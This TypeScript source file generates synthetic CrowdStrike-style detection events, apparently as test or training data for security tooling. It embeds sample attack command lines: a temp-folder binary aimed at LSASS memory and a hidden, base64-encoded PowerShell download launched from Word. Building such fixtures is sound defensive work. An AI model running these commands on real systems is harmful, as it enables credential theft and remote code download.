import { before, type Make, type Scene } from '../scene'

interface Detection {
  name: string
  description: string
  severity: 30 | 50 | 70 | 90
  tactic: string
  technique: string
  file: string
  commandLine: string
  parent: string
  isStopped?: boolean
}

const severityNames = { 30: 'Low', 50: 'Medium', 70: 'High', 90: 'Critical' }

/** EppDetectionSummaryEvent, as the event stream has it. */
function detection(
  scene: Scene,
  { name, description, severity, tactic, technique, file, commandLine, parent, isStopped = false }: Detection,
): object {
  const { random, at, windows, person, world } = scene
  const agent = random.hex(32)
  const compositeId = `${random.hex(32)}:ind:${agent}:${random.digits(16)}-${random.int(1, 900)}-${random.int(10_000, 99_999)}`
  return {
    metadata: { customerIDString: random.hex(32), offset: random.int(10_000, 900_000), eventType: 'EppDetectionSummaryEvent', eventCreationTime: at.getTime(), version: '1.0' },
    event: {
      Name: name,
      Description: description,
      Severity: severity,
      SeverityName: severityNames[severity],
      Tactic: tactic,
      Technique: technique,
      Objective: 'Follow Through',
      CompositeId: compositeId,
      AgentId: agent,
      Hostname: windows.name,
      LocalIP: windows.ip,
      UserName: person.login,
      LogonDomain: world.slug.toUpperCase(),
      FileName: file,
      FilePath: `\\Device\\HarddiskVolume3\\Users\\${person.login}\\AppData\\Local\\Temp\\${file}`,
      CommandLine: commandLine,
      ParentImageFileName: parent,
      ProcessId: random.digits(12),
      ParentProcessId: random.digits(12),
      ProcessStartTime: Math.floor(before(scene, random.int(5, 90)).getTime() / 1_000),
      SHA256String: scene.file.sha256,
      SHA1String: '0'.repeat(40),
      MD5String: scene.file.md5,
      PatternDispositionDescription: isStopped ? 'Prevention, process killed.' : 'Detection, standard detection.',
      PatternDispositionValue: isStopped ? 16 : 0,
      PatternDispositionFlags: { Detect: !isStopped, KillProcess: isStopped, QuarantineFile: false, ProcessBlocked: isStopped },
      FalconHostLink: `https://falcon.example/activity-v2/detections/${encodeURIComponent(compositeId)}`,
    },
  } // prettier-ignore
}

const credentialTheft: Make = (scene) =>
  detection(scene, {
    name: 'Credential access through LSASS memory',
    description: 'A process read the memory of LSASS. Its parent has not been seen on this host before. Review the process tree.',
    severity: 90, tactic: 'Credential Access', technique: 'OS Credential Dumping', file: scene.file.name,
    commandLine: `"C:\\Users\\${scene.person.login}\\AppData\\Local\\Temp\\${scene.file.name}" -p lsass`, parent: 'powershell.exe',
  }) // prettier-ignore

const encodedPowerShell: Make = (scene) =>
  detection(scene, {
    name: 'Suspicious PowerShell with an encoded command',
    description: 'An office application started PowerShell with an encoded command that downloads from the internet.',
    severity: 70, tactic: 'Execution', technique: 'PowerShell', file: 'powershell.exe',
    commandLine: `powershell.exe -NoP -W Hidden -Enc ${Buffer.from(`iwr https://${scene.domain}/a`, 'utf16le').toString('base64')}`, parent: 'WINWORD.EXE',
  }) // prettier-ignore

const machineLearning: Make = (scene) =>
  detection(scene, {
    name: 'File classified as malware by the sensor',
    description: 'A file written to disk meets the machine-learning confidence for malware. It was not run.',
    severity: 50, tactic: 'Machine Learning', technique: 'Sensor-based ML', file: scene.file.name,
    commandLine: '"C:\\Program Files\\Mail\\mail.exe"', parent: 'explorer.exe', isStopped: true,
  }) // prettier-ignore

const adware: Make = (scene) =>
  detection(scene, {
    name: 'Unwanted program', description: 'A browser helper of an advertising network was installed.',
    severity: 30, tactic: 'Machine Learning', technique: 'Adware/PUP', file: 'pdf-helper-setup.exe',
    commandLine: '"pdf-helper-setup.exe" /S', parent: 'chrome.exe', isStopped: true,
  }) // prettier-ignore

export const crowdstrike = { credentialTheft, encodedPowerShell, machineLearning, adware }
